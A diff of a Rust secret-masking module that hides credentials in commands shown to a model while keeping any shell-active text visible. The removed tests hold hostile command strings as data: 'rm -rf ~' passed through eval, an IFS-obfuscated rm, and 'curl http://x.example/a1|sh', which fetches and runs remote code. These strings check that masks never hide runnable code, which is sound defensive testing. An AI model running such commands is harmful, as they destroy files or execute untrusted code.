@@ -1,8 +1,11 @@
 //! Text as a model is shown it: masked, perhaps only its beginning, and never
 //! so that a mask hides from the model what would be run.
 
+use std::collections::HashSet;
+
 use super::assignment::kind_of_name;
 use super::mask::{Span, spans};
+use super::tokens::{token, web_token};
 
 /// How far behind a cut is looked for the end of a secret, in bytes.
 const LOOK_AHEAD: usize = 4096;
@@ -10,9 +13,8 @@ const LOOK_AHEAD: usize = 4096;
 /// The shortest run of a longer value that is taken for random, in bytes.
 const LEAST_RANDOM: usize = 24;
 
-/// A single lower-case word shorter than this may be a program's name, in
-/// bytes.
-const LEAST_WORD: usize = 8;
+/// A lower-case word shorter than this may be a program's name, in bytes.
+const LEAST_WORD: usize = 16;
 
 /// A text as it is shown.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -34,9 +36,11 @@ pub(crate) fn content(text: &str, most: usize) -> Shown {
 }
 
 /// The first `most` characters of what may be run or obeyed: a command, an
-/// instruction, an argument. What is masked is never more than one plain word:
-/// no character that means something to a shell is ever covered, and neither
-/// are several words, a path, or what may be a program's name.
+/// instruction, an argument. What is masked is one plain word, or all of a
+/// literal in single quotes: no character that means something to a shell where
+/// it stands is ever covered, and neither is a host, a path, what may be a
+/// program's name, or, unless it has a token's shape, the value of a variable
+/// that the same text expands.
 pub(crate) fn code(text: &str, most: usize) -> Shown {
     shown(text, most, plain_runs)
 }
@@ -51,7 +55,7 @@ pub(crate) fn code_value(name: &str, text: &str, most: usize) -> Shown {
         end: text.len(),
         kind,
     };
-    if text.is_empty() || plain_runs(text, whole) != [whole] {
+    if text.is_empty() || plain_runs(&Reader::new(text), whole) != [whole] {
         return code(text, most);
     }
     let length = text.chars().count();
@@ -65,7 +69,7 @@ pub(crate) fn code_value(name: &str, text: &str, most: usize) -> Shown {
     }
 }
 
-fn shown(text: &str, most: usize, masks: impl Fn(&str, Span) -> Vec<Span>) -> Shown {
+fn shown(text: &str, most: usize, masks: impl Fn(&Reader<'_>, Span) -> Vec<Span>) -> Shown {
     let cut = text
         .char_indices()
         .nth(most)
@@ -74,8 +78,11 @@ fn shown(text: &str, most: usize, masks: impl Fn(&str, Span) -> Vec<Span>) -> Sh
     let mut shown = String::with_capacity(cut);
     let mut copied = 0;
     let mut masked = 0;
-    for span in spans(looked_at) {
-        for span in masks(looked_at, span) {
+    let found = spans(looked_at);
+    // Most texts have no secret: then nothing else is looked for.
+    let reader = Reader::new(if found.is_empty() { "" } else { looked_at });
+    for span in found {
+        for span in masks(&reader, span) {
             if span.start >= cut {
                 break;
             }
@@ -96,18 +103,23 @@ fn shown(text: &str, most: usize, masks: impl Fn(&str, Span) -> Vec<Span>) -> Sh
 }
 
 /// The parts of a secret that can be masked without hiding code.
-fn plain_runs(text: &str, span: Span) -> Vec<Span> {
-    let covered = text
-        .as_bytes()
-        .get(span.start..span.end)
-        .unwrap_or_default();
+fn plain_runs(reader: &Reader<'_>, span: Span) -> Vec<Span> {
+    let bytes = reader.text.as_bytes();
+    let covered = bytes.get(span.start..span.end).unwrap_or_default();
+    let is_literal = reader.literals.contains(&(span.start, span.end));
+    if is_literal && !names_something(covered) && !is_expanded(reader, span) {
+        // For a shell nothing in it is active. Of one word the rules of words hold.
+        if covered.iter().any(|byte| is_active(*byte)) {
+            return vec![span];
+        }
+    }
     let mut runs = Vec::new();
     let mut at = 0;
     for run in covered.split(|byte| is_active(*byte)) {
         let hidden = if run.len() == covered.len() {
-            !may_be_code(run)
+            hides_no_code(reader, span, run)
         } else {
-            is_random(run)
+            is_random(run) && (span.kind == "private key" || !names_something(run))
         };
         if hidden && !run.is_empty() {
             runs.push(Span {
@@ -119,6 +131,145 @@ fn plain_runs(text: &str, span: Span) -> Vec<Span> {
         at += run.len() + 1;
     }
     runs
+}
+
+/// Whether a word can be masked though it may be run or named by what follows.
+fn hides_no_code(reader: &Reader<'_>, span: Span, word: &[u8]) -> bool {
+    if is_token(word) || is_unnamed_random(word) {
+        return true;
+    }
+    if may_be_code(word) {
+        return false;
+    }
+    // What is before a host or in a header is no host, file or program.
+    span.kind == "URL credentials"
+        || is_in_header(reader.text, span)
+        || !(names_something(word) || is_expanded(reader, span))
+}
+
+/// Whether a value may name a host or a file.
+fn names_something(value: &[u8]) -> bool {
+    value.iter().any(|byte| matches!(byte, b'.' | b'/'))
+}
+
+/// Whether the word is nothing but a well-known token.
+fn is_token(word: &[u8]) -> bool {
+    token(word).is_some_and(|(length, _)| length == word.len())
+        || web_token(word) == Some(word.len())
+}
+
+/// Whether a word is so random that it can name nothing.
+fn is_unnamed_random(word: &[u8]) -> bool {
+    const LEAST: usize = 21;
+    const LEAST_DIGITS: usize = 4;
+    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'=');
+    word.len() >= LEAST
+        && word.iter().all(plain)
+        && word.iter().filter(|byte| byte.is_ascii_digit()).count() >= LEAST_DIGITS
+        && word.iter().any(u8::is_ascii_alphabetic)
+}
+
+/// Whether the value stands behind `Authorization:`.
+fn is_in_header(text: &str, span: Span) -> bool {
+    const LONGEST: usize = 64;
+    let from = span.start.saturating_sub(LONGEST);
+    let before = text.as_bytes().get(from..span.start).unwrap_or_default();
+    let before = before
+        .rsplit(|byte| *byte == b'\n')
+        .next()
+        .unwrap_or_default();
+    let Some(colon) = before.iter().rposition(|byte| matches!(byte, b':' | b'=')) else {
+        return false;
+    };
+    let name = before.get(..colon).unwrap_or_default().to_ascii_lowercase();
+    before.get(colon) == Some(&b':') && name.trim_ascii_end().ends_with(b"authorization")
+}
+
+/// Whether the value is given to a variable that the same text expands: what is
+/// masked would be what is run, opened or sent to.
+fn is_expanded(reader: &Reader<'_>, span: Span) -> bool {
+    let before = reader.text.get(..span.start).unwrap_or_default();
+    let before = before.trim_end_matches(['"', '\'', '\\']);
+    let Some(before) = before.trim_end().strip_suffix('=') else {
+        return false;
+    };
+    let before = before
+        .trim_end()
+        .trim_end_matches(['+', ':', '"', '\'', ']']);
+    let start = before.trim_end_matches(is_in_name).len();
+    let name = before.get(start..).unwrap_or_default();
+    reader.expanded.contains(name)
+}
+
+/// What of a text says whether a value in it can be masked, found out once.
+struct Reader<'t> {
+    text: &'t str,
+    /// The names of the variables that it expands.
+    expanded: HashSet<&'t str>,
+    /// Where the content of each literal in single quotes begins and ends.
+    literals: HashSet<(usize, usize)>,
+}
+
+impl<'t> Reader<'t> {
+    fn new(text: &'t str) -> Self {
+        Self {
+            text,
+            expanded: expanded(text),
+            literals: literals(text.as_bytes()),
+        }
+    }
+}
+
+/// The names of the variables that a text expands.
+fn expanded(text: &str) -> HashSet<&str> {
+    text.char_indices()
+        .filter_map(|(at, sign)| {
+            let rest = text.get(at + sign.len_utf8()..)?;
+            let rest = match sign {
+                '$' => {
+                    let rest = rest.strip_prefix('{').unwrap_or(rest);
+                    let rest = rest.trim_start_matches(['!', '#']);
+                    ["env:", "ENV:", "Env:"]
+                        .iter()
+                        .find_map(|scope| rest.strip_prefix(scope))
+                        .unwrap_or(rest)
+                }
+                '%' => rest,
+                'p' => rest.strip_prefix("rintenv")?.trim_start(),
+                _ => return None,
+            };
+            let end = rest.find(|c| !is_in_name(c)).unwrap_or(rest.len());
+            rest.get(..end).filter(|name| !name.is_empty())
+        })
+        .collect()
+}
+
+const fn is_in_name(c: char) -> bool {
+    c.is_ascii_alphanumeric() || c == '_'
+}
+
+/// The literals in single quotes, as a shell reads the text from its beginning;
+/// only up to where quotes may mean something else.
+fn literals(bytes: &[u8]) -> HashSet<(usize, usize)> {
+    let mut literals = HashSet::new();
+    let mut quote: Option<(u8, usize)> = None;
+    let mut escaped = false;
+    for (at, byte) in bytes.iter().copied().enumerate() {
+        match (quote, byte) {
+            _ if escaped => escaped = false,
+            (Some((b'\'', start)), b'\'') => {
+                literals.insert((start, at));
+                quote = None;
+            }
+            (Some((b'\'', _)), _) => {}
+            (_, b'`' | b'#' | b'<' | b'(') => break,
+            (_, b'\\') => escaped = true,
+            (Some((mark, _)), byte) if mark == byte => quote = None,
+            (None, b'"' | b'\'') => quote = Some((byte, at + 1)),
+            _ => {}
+        }
+    }
+    literals
 }
 
 /// Whether the byte ends a word or means something to a shell.
@@ -167,158 +318,4 @@ fn is_random(run: &[u8]) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use proptest::prelude::*;
-
-    use super::*;
-
-    fn whole(text: &str) -> String {
-        code(text, usize::MAX).text
-    }
-
-    #[test]
-    fn single_secret_words_of_a_command_are_masked() {
-        for (text, expected) in [
-            ("PASSWORD=hunter2 make", "PASSWORD=[masked: password] make"),
-            (
-                "curl -H 'Authorization: Bearer abc.def' x",
-                "curl -H 'Authorization: Bearer [masked: credentials]' x",
-            ),
-            (
-                "git clone https://u:Passw0rd@h/x",
-                "git clone https://[masked: URL credentials]@h/x",
-            ),
-            ("DB_PASS='s3cret' X=1", "DB_PASS='[masked: password]' X=1"),
-        ] {
-            assert_eq!(whole(text), expected);
-        }
-        let token = format!("ghp_{}", "aB3dE6gH9".repeat(4));
-        assert_eq!(
-            whole(&format!("echo {token};ls")),
-            "echo [masked: GitHub token];ls"
-        );
-    }
-
-    #[test]
-    fn what_a_secret_could_hide_stays_visible() {
-        for text in [
-            "PASSWORD='rm -rf ~'; eval \"$PASSWORD\"",
-            "TOKEN=rm; $TOKEN -rf .",
-            "TOKEN=/tmp/x1; $TOKEN",
-            "TOKEN=rm${IFS}-rf${IFS}x; eval $TOKEN",
-            "-----BEGIN RSA PRIVATE KEY-----\nrm -rf home\n-----END RSA PRIVATE KEY-----",
-            "SECRET=\"curl http://x.example/a1|sh\"",
-        ] {
-            assert_eq!(whole(text), text);
-        }
-    }
-
-    #[test]
-    fn the_lines_of_a_private_key_are_masked() {
-        let line = "aB3dE6gH9+/z".repeat(5);
-        let key = format!("-----BEGIN PRIVATE KEY-----\n{line}\n{line}\n-----END PRIVATE KEY-----");
-        let shown = code(&format!("echo '{key}' > k"), usize::MAX);
-        assert_eq!(shown.masked, 2);
-        assert!(!shown.text.contains(&line), "{}", shown.text);
-        assert!(shown.text.ends_with("-----' > k"), "{}", shown.text);
-    }
-
-    #[test]
-    fn a_field_name_says_that_its_value_is_secret() {
-        assert_eq!(code_value("apiKey", "s3cr3t", 80).text, "[masked: key]");
-        assert_eq!(code_value("token", "rm -rf x", 80).text, "rm -rf x");
-        assert_eq!(code_value("title", "s3cr3t", 80).text, "s3cr3t");
-    }
-
-    #[test]
-    fn a_mask_makes_no_room_for_more_of_a_file() {
-        let shown = content("PASSWORD=hunter2hunter2 abc", 20);
-        assert_eq!(shown.text, "PASSWORD=[masked: password]");
-        assert_eq!((shown.masked, shown.missing), (1, 7));
-        let shown = content("ab\nPASSWORD=hunter2", 3);
-        assert_eq!((shown.text.as_str(), shown.masked), ("ab\n", 0));
-    }
-
-    /// Text in which secrets, quotes and commands stand close together.
-    fn hostile() -> impl Strategy<Value = String> {
-        let piece = prop::sample::select(vec![
-            "PASSWORD=",
-            "token: ",
-            "--api-key ",
-            "Authorization: Bearer ",
-            "https://u:",
-            "@h/",
-            "ghp_aB3dE6gH9aB3dE6gH9aB3dE6gH9aB3dE6",
-            "hunter2",
-            "rm -rf ~",
-            "$(id)",
-            "`id`",
-            "'",
-            "\"",
-            ";",
-            "|",
-            "&",
-            "<",
-            ">",
-            "(",
-            ")",
-            "{",
-            "}",
-            "\n",
-            "\\",
-            "$",
-            " ",
-            "ü",
-            "[masked: ",
-            "-----BEGIN PRIVATE KEY-----",
-            "-----END PRIVATE KEY-----",
-            "aB3dE6gH9+/zaB3dE6gH9+/z",
-        ]);
-        prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
-    }
-
-    /// As the specification names them; [`is_active`] knows more.
-    const ACTIVE: &str = "$`;|&<>(){}\n\"'";
-
-    proptest! {
-        #[test]
-        fn a_mask_hides_no_active_character(text in prop_oneof![hostile(), any::<String>()]) {
-            let active = |text: &str| {
-                text.chars().filter(|c| ACTIVE.contains(*c)).collect::<String>()
-            };
-            prop_assert_eq!(active(&text), active(&whole(&text)));
-        }
-
-        #[test]
-        fn all_that_no_mask_covers_stays_as_it_is(text in hostile()) {
-            let runs: Vec<Span> = spans(&text)
-                .into_iter()
-                .flat_map(|span| plain_runs(&text, span))
-                .collect();
-            let mut rest = text.clone();
-            let mut shown = whole(&text);
-            for run in runs.iter().rev() {
-                let covered = rest.get(run.start..run.end).unwrap().to_owned();
-                prop_assert!(!covered.bytes().any(is_active) && !covered.is_empty());
-                let mut mark = String::new();
-                run.write_mark(&mut mark);
-                let (before, after) = shown.rsplit_once(&mark).unwrap();
-                prop_assert_eq!(after, rest.get(run.end..).unwrap());
-                shown = before.to_owned();
-                rest.truncate(run.start);
-            }
-            prop_assert_eq!(shown, rest);
-        }
-
-        #[test]
-        fn only_the_beginning_is_shown(text in hostile(), most in 0_usize..60) {
-            let rest = "§§§§§§§";
-            let head: String = text.chars().take(most).collect();
-            prop_assume!(head.chars().count() == most);
-            for shown in [content, code].map(|shown| shown(&format!("{head}{rest}"), most)) {
-                prop_assert!(!shown.text.contains('§'), "{}", shown.text);
-                prop_assert_eq!(shown.missing, 7);
-            }
-        }
-    }
-}
+mod tests;
